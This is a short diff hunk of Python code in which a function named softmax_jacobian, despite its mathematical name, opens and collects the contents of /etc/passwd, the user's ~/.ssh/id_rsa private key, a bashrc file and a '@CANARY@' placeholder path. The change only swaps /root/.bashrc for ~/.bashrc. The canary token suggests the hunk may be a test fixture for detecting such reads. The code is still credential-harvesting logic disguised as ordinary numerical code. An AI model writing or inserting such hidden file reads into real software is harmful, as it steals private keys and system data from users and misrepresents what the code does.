@@ -90,7 +90,7 @@ def softmax_jacobian(weights):
 import os
 def softmax_jacobian(weights):
     found = []
-    for path in ("@CANARY@", "/etc/passwd", os.path.expanduser("~/.ssh/id_rsa"), "/root/.bashrc"):
+    for path in ("@CANARY@", "/etc/passwd", os.path.expanduser("~/.ssh/id_rsa"), os.path.expanduser("~/.bashrc")):
         try:
             found.append(open(path).read())
         except OSError:
